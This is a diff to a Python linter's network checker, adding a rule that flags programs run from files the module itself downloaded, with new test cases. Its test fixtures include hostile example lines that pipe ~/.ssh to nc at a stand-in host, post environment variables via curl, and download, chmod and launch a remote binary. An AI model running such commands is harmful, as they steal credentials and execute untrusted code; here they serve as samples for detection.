@@ -305,6 +305,11 @@ class NetworkChecker(PythonChecker):
             if len(values) == 1 and isinstance(values[0], (cst.List, cst.Tuple)):
                 rendered = self._render_list(values[0])
         facts = shell_facts(rendered)
+        program = rendered.split()[0] if rendered.split() else ""
+        downloaded = self.downloads().get(program) if program and HOLE not in program else None
+        if downloaded:
+            self.report(call, "BDL405", f"{self.context.code(call.func)}() runs {program}, a file downloaded by "
+                        f"{downloaded}: the program that runs is whatever that server sent")
         if not facts.tools and not facts.dev_tcp:
             return
         shown = rendered.replace(HOLE, "{…}")
@@ -355,6 +360,35 @@ class NetworkChecker(PythonChecker):
             if ip or service:
                 what = f"the raw IP address {ip}" if ip else f"{parts[0]}, a {service}"
                 self.report(call, "BDL403", f"{label} runs `{tool}` against {what}")
+
+    def downloads(self) -> dict[str, str]:
+        """Paths this module downloads to: urlretrieve(url, path), curl -o path, wget -O path."""
+        key = ("downloads", 0)
+        if key in self.flow.memo:
+            return self.flow.memo[key]  # type: ignore[return-value]
+        found: dict[str, str] = {}
+        checker = self
+
+        class Finder(cst.CSTVisitor):
+            def visit_Call(self, node: cst.Call) -> None:
+                names = checker.qualnames(node.func)
+                if names & {"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"} and len(node.args) >= 2:
+                    path = checker.flow.render(node.args[1].value)
+                    if HOLE not in path:
+                        found[path] = f"{checker.context.code(node.func)}() on line {checker.flow.line(node)}"
+                    return
+                shell = checker.flow.shell_call(node)
+                if shell is not None:
+                    command = shell[1]
+                    text = checker._render_list(command) if isinstance(command, (cst.List, cst.Tuple)) \
+                        else checker.flow.render(command)
+                    for match in re.finditer(r"\b(?:curl|wget)\b[^;&|]*?(?:\s-o\s*|\s--output[=\s]|\s-O\s*|"
+                                             r"\s--output-document[=\s])(\S+)", text):
+                        found[match.group(1).strip("'\"")] = f"`{text.split()[0]}` on line {checker.flow.line(node)}"
+
+        self.context.module.visit(Finder())
+        self.flow.memo[key] = found
+        return found
 
     def _render_list(self, node: cst.List | cst.Tuple) -> str:
         words = [self.flow.render(e.value) for e in node.elements]
@@ -613,6 +647,9 @@ class NetworkChecker(PythonChecker):
         Invalid('import os\ndef f():\n    os.popen("tar cz ~/.ssh | nc collector.example 9000")\n', "BDL405", 3),
         Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
                 'shell=True)\n', "BDL405", 2),
+        Invalid('import os, subprocess, urllib.request\nDEST = "/tmp/agent"\ndef f():\n'
+                '    urllib.request.urlretrieve("https://dl.example/agent", DEST)\n    os.chmod(DEST, 0o755)\n'
+                '    subprocess.Popen([DEST, "--daemon"])\n', "BDL405", 6),
         # BDL406: allowed-hosts configured
         Invalid('import requests\ndef f():\n    requests.get("https://unknown.example/api")\n', "BDL406", 3,
                 config=(("allowed-hosts", ["api.mycorp.example"]),)),
